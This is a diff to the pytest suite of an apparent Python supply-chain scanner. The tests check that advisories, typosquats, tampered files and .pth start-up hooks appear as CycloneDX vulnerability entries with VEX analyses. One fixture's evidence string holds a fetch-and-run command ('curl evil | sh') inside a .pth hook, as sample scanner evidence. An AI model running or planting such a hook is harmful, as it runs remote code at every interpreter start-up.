@@ -11,7 +11,15 @@ import pytest
 from sbom_factories import SITE, advisory, demo_components, demo_inventory, dist
 
 from wellcheck.errors import OutputError
-from wellcheck.models import ArtifactInfo, Component, ComponentKind, Person, Severity
+from wellcheck.models import (
+    ArtifactInfo,
+    Component,
+    ComponentKind,
+    Finding,
+    Person,
+    Severity,
+    Suppression,
+)
 from wellcheck.pipeline import Inventory
 from wellcheck.sbom import build_cyclonedx, render_cyclonedx, render_sbom
 from wellcheck.sbom.cyclonedx import validate_cyclonedx
@@ -43,7 +51,7 @@ def props(item: dict[str, Any]) -> dict[str, list[str]]:
 def test_every_flavour_validates_against_the_schema(spec: str, fmt: str) -> None:
     inventories = [demo_inventory(), demo_inventory(path="img.tar", kind="docker-archive")]
     for selected in ([inventories[0]], inventories):
-        bom = build_cyclonedx(selected, spec=spec, findings=[advisory()])
+        bom = build_cyclonedx(selected, spec=spec, findings=[[advisory()]])
         text = render_cyclonedx(bom, fmt, spec)
         assert validate_cyclonedx(text, fmt, spec) is None, text[:2000]
         assert f"1.{spec[-1]}" in text
@@ -210,7 +218,6 @@ def test_odd_metadata_still_validates() -> None:
 def test_findings_become_vdr_vulnerabilities() -> None:
     findings = [
         advisory(),
-        advisory(kind="typosquat", rule="WC-TYPO", id=None),  # not a vulnerability
         advisory(
             kind="malicious",
             rule="MAL-2024-1",
@@ -224,7 +231,7 @@ def test_findings_become_vdr_vulnerabilities() -> None:
             score=None,
         ),
     ]
-    doc = cdx([demo_inventory()], findings=findings)
+    doc = cdx([demo_inventory()], findings=[findings])
     vulns = {v["id"]: v for v in doc["vulnerabilities"]}
     assert set(vulns) == {"GHSA-9wx4-h78v-vm56", "MAL-2024-1"}
     ghsa = vulns["GHSA-9wx4-h78v-vm56"]
@@ -235,13 +242,126 @@ def test_findings_become_vdr_vulnerabilities() -> None:
     assert ghsa["recommendation"] == "Upgrade requests to 2.32.0 or later"
     assert ghsa["source"]["url"] == "https://osv.dev/vulnerability/GHSA-9wx4-h78v-vm56"
     assert [r["id"] for r in ghsa["references"]] == ["CVE-2024-35195"]
+    assert "analysis" not in ghsa  # reported, not ignored: a VDR entry
     assert vulns["MAL-2024-1"]["ratings"][0]["severity"] == "critical"
+
+
+def signal(**kw: object) -> Finding:
+    fields: dict[str, object] = {
+        "kind": "startup",
+        "rule": "WC-STARTUP-PTH",
+        "package": "",
+        "version": "",
+        "severity": Severity.HIGH,
+        "title": "a .pth file runs code at every interpreter start-up",
+        "path": f"{SITE}/zz-hook.pth",
+        "line": 2,
+        "confidence": "high",
+        "evidence": "import os; os.system('curl evil | sh')",
+        "remediation": "remove the .pth file",
+    }
+    fields.update(kw)
+    return Finding(**fields)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("spec", ["1.5", "1.6"])
+def test_signals_are_vulnerabilities_from_wellcheck(spec: str) -> None:
+    """Start-up hooks, typosquats, tampering: what made the scan fail is in the document."""
+    typo = signal(
+        kind="typosquat",
+        rule="WC-TYPO-001",
+        package="idna",
+        version="3.6",
+        location=f"{SITE}/idna-3.6.dist-info",
+        path="",
+        line=None,
+        severity=Severity.MEDIUM,
+        title="idna imitates idna2",
+        confidence="medium",
+    )
+    tampered = signal(
+        kind="integrity",
+        rule="WC-INTEGRITY-CHANGED",
+        package="urllib3",
+        version="2.0.7",
+        location=f"{SITE}/urllib3-2.0.7.dist-info",
+        path=f"{SITE}/urllib3/connection.py",
+        line=None,
+        title="a file differs from RECORD",
+    )
+    hook = signal()
+    doc = cdx([demo_inventory()], spec, findings=[[hook, typo, tampered]])
+    vulns = {v["id"]: v for v in doc["vulnerabilities"]}
+    assert set(vulns) == {"WC-STARTUP-PTH", "WC-TYPO-001", "WC-INTEGRITY-CHANGED"}
+    pth = vulns["WC-STARTUP-PTH"]
+    assert pth["source"] == {"name": "wellcheck"}
+    assert pth["ratings"] == [{"source": {"name": "wellcheck"}, "severity": "high"}]
+    assert pth["description"] == hook.title
+    assert pth["detail"] == hook.evidence
+    assert pth["recommendation"] == "remove the .pth file"
+    assert pth["affects"] == [{"ref": doc["metadata"]["component"]["bom-ref"]}]  # no owner
+    assert props(pth) == {
+        "wellcheck:kind": ["startup"],
+        "wellcheck:confidence": ["high"],
+        "wellcheck:path": [f"{SITE}/zz-hook.pth"],
+        "wellcheck:line": ["2"],
+    }
+    assert vulns["WC-TYPO-001"]["affects"][0]["ref"] == component(doc, "idna")["bom-ref"]
+    changed = vulns["WC-INTEGRITY-CHANGED"]
+    assert changed["affects"][0]["ref"] == component(doc, "urllib3")["bom-ref"]
+    assert props(changed)["wellcheck:path"] == [f"{SITE}/urllib3/connection.py"]
+
+
+@pytest.mark.parametrize("spec", ["1.5", "1.6"])
+@pytest.mark.parametrize("fmt", ["json", "xml"])
+def test_ignored_findings_are_written_with_a_vex_analysis(spec: str, fmt: str) -> None:
+    waived = Suppression(
+        "the Session is never reused",
+        "ignore.toml, entry 1",
+        state="not_affected",
+        justification="code_not_reachable",
+    )
+    accepted = Suppression("owner reviewed the hook", "ignore.toml, entry 2")
+    inventories = [demo_inventory(), demo_inventory(path="other.zip")]
+    findings = [
+        [advisory(suppression=waived), signal(suppression=accepted)],
+        [advisory()],  # the same advisory, not ignored, in the other artifact
+    ]
+    bom = build_cyclonedx(inventories, spec=spec, findings=findings)
+    text = render_cyclonedx(bom, fmt, spec)
+    assert validate_cyclonedx(text, fmt, spec) is None
+    if fmt == "xml":
+        return
+    vulns = {v["bom-ref"]: v for v in json.loads(text)["vulnerabilities"]}
+    assert set(vulns) == {
+        "vulnerability:GHSA-9wx4-h78v-vm56",
+        "vulnerability:GHSA-9wx4-h78v-vm56|ignored",
+        "finding:WC-STARTUP-PTH|1",
+    }
+    reported = vulns["vulnerability:GHSA-9wx4-h78v-vm56"]
+    assert "analysis" not in reported
+    assert [a["ref"] for a in reported["affects"]] == [
+        "pkg:pypi/requests@2.31.0|other.zip!python/lib/python3.12/site-packages/requests-2.31.0.dist-info"
+    ]
+    ignored = vulns["vulnerability:GHSA-9wx4-h78v-vm56|ignored"]
+    assert ignored["analysis"] == {
+        "state": "not_affected",
+        "justification": "code_not_reachable",
+        "detail": "the Session is never reused",
+    }
+    assert props(ignored)["wellcheck:suppressed-by"] == ["ignore.toml, entry 1"]
+    assert [a["ref"] for a in ignored["affects"]] == [
+        "pkg:pypi/requests@2.31.0|demo-layer.zip!python/lib/python3.12/site-packages/requests-2.31.0.dist-info"
+    ]
+    hook = vulns["finding:WC-STARTUP-PTH|1"]
+    assert hook["analysis"] == {"detail": "owner reviewed the hook"}  # no state was given
+    assert hook["affects"] == [{"ref": "artifact:demo-layer.zip"}]
 
 
 def test_one_vulnerability_affects_every_matching_component_across_artifacts() -> None:
     doc = cdx(
         [demo_inventory(), demo_inventory(path="other.zip")],
-        findings=[advisory(), advisory()],
+        findings=[[advisory()], [advisory()]],
     )
     (vuln,) = doc["vulnerabilities"]
     assert len(vuln["affects"]) == 2
